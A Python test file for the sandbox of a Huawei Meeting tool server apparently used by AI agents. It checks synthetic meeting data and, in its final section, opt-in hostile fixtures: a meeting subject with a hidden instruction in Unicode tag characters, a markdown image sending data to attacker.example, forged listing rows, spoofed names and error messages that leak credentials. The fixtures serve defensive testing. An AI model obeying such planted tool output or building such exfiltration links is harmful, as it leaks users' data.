"""The sandbox's data: it moves with the clock, its counts match its lists, and hostile data only when asked."""

from __future__ import annotations

import re
import unicodedata
from collections import Counter
from datetime import date, datetime, timedelta, timezone
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest

from huawei_meeting_mcp.sandbox import (
    DEFAULT_TOKEN,
    DOCS_EXAMPLE_UUID,
    LARGE_UUID,
    RECURRING_UUID,
    Sandbox,
    hostile,
)
from huawei_meeting_mcp.sandbox.data import ROOM_TYPES, STANDUP_ID, sample_meetings
from huawei_meeting_mcp.sandbox.history_api import ATTENDANCE_PATH, CONF_DETAIL_PATH, CONTROL_PATH, HISTORY_PATH

LONDON = ZoneInfo("Europe/London")
ROOM_DEVICES = {"TE30", "IdeaHub", "Board", "HUAWEI Vision"}
NOW = datetime(2026, 11, 26, 12, 0, tzinfo=timezone.utc)
DAYS = [
    datetime(2026, 11, 26, 12, 0, tzinfo=timezone.utc),
    datetime(2026, 12, 31, 23, 59, tzinfo=timezone.utc),
    datetime(2027, 3, 28, 0, 30, tzinfo=timezone.utc),  # the day London moves to summer time
    datetime(2027, 6, 15, 6, 0, tzinfo=timezone.utc),
    datetime(2030, 1, 1, 0, 0, tzinfo=timezone.utc),
]


def start(conf: dict[str, Any]) -> datetime:
    return datetime.strptime(conf["startTime"], "%Y-%m-%d %H:%M").replace(tzinfo=timezone.utc)


def ms(moment: datetime) -> int:
    return int(moment.timestamp() * 1000)


@pytest.mark.parametrize("now", DAYS, ids=lambda d: d.date().isoformat())
def test_the_meetings_move_with_the_clock(now: datetime) -> None:
    meetings = sample_meetings(now=now)
    today = now.date()
    starts = {uuid: start(m.conference) for uuid, m in meetings.items()}
    ends = [datetime.strptime(m.conference["endTime"], "%Y-%m-%d %H:%M") for m in meetings.values()]
    assert max(ends).date() < today, "every meeting ended before the anchor day"
    assert max(starts.values()).date() == today - timedelta(days=1)
    assert min(d for u, d in starts.items() if u != DOCS_EXAMPLE_UUID).date() <= today - timedelta(days=180)
    large = starts[LARGE_UUID]
    assert large.weekday() == 1, "the supply-chain review is on a Tuesday"
    assert today - timedelta(days=7) <= large.date() < today, "the latest Tuesday before the anchor day"
    last_30 = [m for u, m in meetings.items() if m.mine and now - timedelta(days=30) <= starts[u] <= now]
    assert len(last_30) >= 15, "--demo's default window (the last 30 days) finds recent meetings"
    assert meetings[DOCS_EXAMPLE_UUID].conference["startTime"] == "2019-11-18 23:31", "the docs example stays"


def test_the_same_day_gives_the_same_data_and_another_day_moves_it() -> None:
    morning = sample_meetings(now=NOW.replace(hour=0, minute=1))
    evening = sample_meetings(now=NOW.replace(hour=23, minute=59))
    assert {u: m.conference for u, m in morning.items()} == {u: m.conference for u, m in evening.items()}
    next_week = sample_meetings(now=NOW + timedelta(days=7))
    assert start(next_week[LARGE_UUID].conference) == start(morning[LARGE_UUID].conference) + timedelta(days=7)
    assert Sandbox(now=NOW).meetings.keys() == morning.keys()


def test_a_naive_now_is_read_as_utc() -> None:
    naive, aware = sample_meetings(now=datetime(2026, 11, 26, 12)), sample_meetings(now=NOW)
    assert naive[LARGE_UUID].conference == aware[LARGE_UUID].conference


@pytest.mark.parametrize("now", DAYS, ids=lambda d: d.date().isoformat())
def test_the_london_stand_up_is_at_nine_london_time_all_year(now: datetime) -> None:
    standups = [m for m in sample_meetings(now=now).values() if m.conference["conferenceID"] == STANDUP_ID]
    assert len(standups) >= 40
    for meeting in standups:
        local = start(meeting.conference).astimezone(LONDON)
        assert (local.hour, local.minute, local.weekday() in (0, 2)) == (9, 0, True), meeting.conference["startTime"]


def test_london_nine_is_eight_utc_in_july_and_nine_utc_in_november() -> None:
    summer = sample_meetings(now=datetime(2026, 11, 26, tzinfo=timezone.utc))
    by_month: dict[int, set[str]] = {}
    for meeting in summer.values():
        if meeting.conference["conferenceID"] == STANDUP_ID:
            when = start(meeting.conference)
            by_month.setdefault(when.month, set()).add(f"{when:%H:%M}")
    assert by_month[7] == {"08:00"}, "09:00 BST"
    assert by_month[11] == {"09:00"}, "09:00 GMT"


def test_the_recurring_meeting_lists_its_occurrences() -> None:
    meetings = sample_meetings(now=NOW)
    conf = meetings[RECURRING_UUID].conference
    subs = conf["subConfs"]
    assert len(subs) == 50, "the API's maximum of 50 sub-meetings"
    assert conf["cycleSubConfID"] == subs[0]["cycleSubConfID"]
    assert len({s["cycleSubConfID"] for s in subs}) == 50
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", s[key]) for s in subs for key in ("startTime", "endTime"))
    assert (subs[0]["startTime"][:10], subs[-1]["startTime"][:10]) == (
        conf["cycleParams"]["startDate"],
        conf["cycleParams"]["endDate"],
    )
    assert subs[-1]["startTime"][:10] > NOW.date().isoformat(), "the series goes on after today"
    scheduled = {s["startTime"] for s in subs}
    held = [m.conference["startTime"] for m in meetings.values() if m.conference["conferenceID"] == STANDUP_ID]
    assert len(held) == sum(1 for s in subs if s["startTime"][:10] < NOW.date().isoformat())
    assert set(held) <= scheduled, "each held occurrence starts as scheduled"
    assert all(m.conference["subConfs"] is subs for m in meetings.values() if m.conference.get("subConfs"))


def test_the_large_meetings_counts_match_its_list() -> None:
    conf, people = (lambda m: (m.conference, m.participants))(sample_meetings(now=NOW)[LARGE_UUID])
    rooms = [p for p in people if p["attendeeType"] in ROOM_TYPES]
    assert (conf["size"], conf["terminlCount"], conf["normalCount"]) == (
        len(people),
        len(rooms),
        len(people) - len(rooms),
    )
    assert (len(people), len(rooms)) == (620, 41)
    soft = [p for p in conf["partAttendeeInfo"] if p["type"] not in ROOM_TYPES]
    assert (len(soft), len(conf["partAttendeeInfo"]) - len(soft)) == (20, 20), "the first 20 of each (§2.7)"


def test_names_are_distinct_and_have_no_numeric_suffix() -> None:
    meetings = sample_meetings(now=NOW)
    people = [p["name"] for p in meetings[LARGE_UUID].participants if p["attendeeType"] not in ROOM_TYPES]
    assert len(people) == len(set(people)) == 579
    everyone = {p["name"] for m in meetings.values() for p in m.participants if p["attendeeType"] not in ROOM_TYPES}
    shown = {
        r["displayName"]
        for uuid, m in meetings.items()
        if uuid != DOCS_EXAMPLE_UUID and not m.conference.get("webinar")
        for r in m.attendance
        if r["deviceType"] not in ROOM_DEVICES
    }
    everyone = (everyone | shown) - {p["name"] for p in meetings[DOCS_EXAMPLE_UUID].participants}
    numbered = sorted(n for n in everyone if re.search(r"\d", n) and not n.startswith("+"))
    assert numbered == ["HUAWEI MatePad 11"], "only a device name carries a number"
    assert {unicodedata.category(c) for n in everyone for c in n}.isdisjoint({"Cf", "Cc"})


def reconcile(participants: list[dict[str, Any]], records: list[dict[str, Any]]) -> dict[str, int]:
    """The matching rule of issue 14: number first (participantID vs callNumber), then the normalised name."""
    numbers = {p["participantID"]: p for p in participants}
    names = {" ".join(p["name"].split()).casefold(): p for p in participants}
    matched: dict[str, str] = {}
    by_name = 0
    uninvited: set[tuple[str, str]] = set()
    for record in records:
        person = numbers.get(record["callNumber"])
        if person is None:
            person = names.get(" ".join(record["displayName"].split()).casefold())
            if person is not None and person["participantID"] not in matched:
                by_name += 1
        if person is None:
            uninvited.add((record["displayName"], record["callNumber"]))
        else:
            matched[person["participantID"]] = record["displayName"]
    by_number = sum(1 for pid, shown in matched.items() if shown != numbers[pid]["name"])
    return {
        "absent": len(participants) - len(matched),
        "uninvited": len(uninvited),
        "by_name_only": by_name,
        "by_number_only": by_number,
    }


def test_the_review_has_absentees_and_uninvited_guests_matched_both_ways() -> None:
    meeting = sample_meetings(now=NOW)[LARGE_UUID]
    counts = reconcile(meeting.participants, meeting.attendance)
    assert counts == {"absent": 7, "uninvited": 6, "by_name_only": 4, "by_number_only": 3}


def test_ordinary_meetings_have_absentees_and_sometimes_guests() -> None:
    meetings = [m for m in sample_meetings(now=NOW).values() if m.conference["confType"] == "FUTURE"]
    totals = Counter[str]()
    for meeting in meetings:
        totals.update(reconcile(meeting.participants, meeting.attendance))
    assert totals["absent"] > 10
    assert totals["uninvited"] > 3


# --- hostile data ---------------------------------------------------------------------------------

HOSTILE_UUIDS = {
    hostile.TAG_UUID,
    hostile.FORGED_SUBJECT_UUID,
    hostile.FORGED_UUID,
    hostile.MARKDOWN_UUID,
    hostile.PASSCODE_UUID,
    hostile.COMBINING_UUID,
}


def test_hostile_data_is_opt_in() -> None:
    calm, attacked = Sandbox(now=NOW), Sandbox(now=NOW, hostile=True)
    assert not HOSTILE_UUIDS & calm.meetings.keys()
    assert attacked.meetings.keys() - calm.meetings.keys() == HOSTILE_UUIDS
    assert hostile.hostile_secrets().isdisjoint(calm.secret_strings())
    assert hostile.hostile_contacts().isdisjoint(calm.contact_strings())
    assert hostile.hostile_secrets() <= attacked.secret_strings()
    assert hostile.hostile_contacts() <= attacked.contact_strings()


def test_hostile_strings_carry_each_attack() -> None:
    meetings = Sandbox(now=NOW, hostile=True).meetings
    tagged = meetings[hostile.TAG_UUID].conference["subject"]
    hidden = [c for c in tagged if 0xE0000 <= ord(c) <= 0xE007F]
    assert len(hidden) == 131
    assert "".join(chr(ord(c) - 0xE0000) for c in hidden) == hostile.HIDDEN_INSTRUCTION
    assert meetings[hostile.FORGED_SUBJECT_UUID].conference["subject"].startswith('Board meeting" · ID 960142387')
    assert "![status](https://attacker.example/p.png?d=" in meetings[hostile.MARKDOWN_UUID].conference["subject"]
    assert "<img " in meetings[hostile.MARKDOWN_UUID].conference["subject"]
    for meeting in (meetings[uuid] for uuid in HOSTILE_UUIDS):
        for names in ({p["name"] for p in meeting.participants}, {r["displayName"] for r in meeting.attendance}):
            assert any("\u202e" in n for n in names)
            assert any("\u200b" in n for n in names)
            assert hostile.PHONE_NAME in names
        assert "\u202e" in meeting.conference["scheduserName"]
    people = meetings[hostile.MARKDOWN_UUID].participants
    assert hostile.EMAIL_ACCOUNT in {p.get("accountId") for p in people}
    dial_in = [p for p in people if p["name"] == hostile.PHONE_NAME]
    assert [p["participantID"] for p in dial_in] == [hostile.PHONE_NAME]
    rows = [r for r in meetings[hostile.MARKDOWN_UUID].attendance if r["displayName"] == hostile.PHONE_NAME]
    assert [r["callNumber"] for r in rows] == [hostile.PHONE_NAME]
    story = [r.localized("en-US") for r in meetings[hostile.MARKDOWN_UUID].control_records]
    assert any(hostile.CONTROL_JOIN_LINK in r["detail"] for r in story)
    assert any("list_historical_meetings" in r["operator"] for r in story)


@pytest.mark.anyio
async def test_hostile_answers_over_http() -> None:
    sandbox = Sandbox(now=NOW, hostile=True)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=sandbox.app),
        base_url="http://sandbox",
        headers={"X-Access-Token": DEFAULT_TOKEN},
    ) as http:
        day = start(sandbox.meetings[hostile.FORGED_UUID].conference).replace(hour=0, minute=0)
        listed = (await http.get(HISTORY_PATH, params={"startDate": ms(day), "endDate": ms(day) + 86_399_999})).json()
        uuids = [c["confUUID"] for c in listed["data"]]
        assert hostile.FORGED_UUID in uuids
        assert uuids.index(hostile.FORGED_UUID) == uuids.index(hostile.FORGED_SUBJECT_UUID) + 1, "a second row"
        detail = await http.get(CONF_DETAIL_PATH, params={"confUUID": hostile.FORGED_UUID})
        assert detail.json()["conferenceData"]["confUUID"] == hostile.FORGED_UUID
        for path in (CONF_DETAIL_PATH, ATTENDANCE_PATH, CONTROL_PATH):
            leaky = await http.get(path, params={"confUUID": hostile.LEAKY_ERROR_UUID})
            assert leaky.status_code == 400
            message = leaky.json()["error_msg"]
            planted = (hostile.ERROR_JOIN_LINK, hostile.ERROR_PASSWORD, hostile.ERROR_PHONE, hostile.ERROR_EMAIL)
            assert all(value in message for value in planted)
            echoed = await http.get(path, params={"confUUID": hostile.TOKEN_ERROR_UUID})
            assert (echoed.status_code, echoed.json()["error_code"]) == (400, DEFAULT_TOKEN)
    calm = Sandbox(now=NOW)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=calm.app),
        base_url="http://sandbox",
        headers={"X-Access-Token": DEFAULT_TOKEN},
    ) as http:
        plain = await http.get(CONF_DETAIL_PATH, params={"confUUID": hostile.TOKEN_ERROR_UUID})
        assert plain.json()["error_code"] == "MMC.111072065", "no planted errors without hostile=True"


def test_sandbox_construction_stays_lazy() -> None:
    sandbox = Sandbox(now=NOW)
    assert not any(m.control_built for m in sandbox.meetings.values())
    assert sum(not m.attendance_built for m in sandbox.meetings.values()) == 1, "only the webinar waits"
    assert date.fromisoformat(sandbox.meetings[LARGE_UUID].conference["startTime"][:10]) == date(2026, 11, 24)
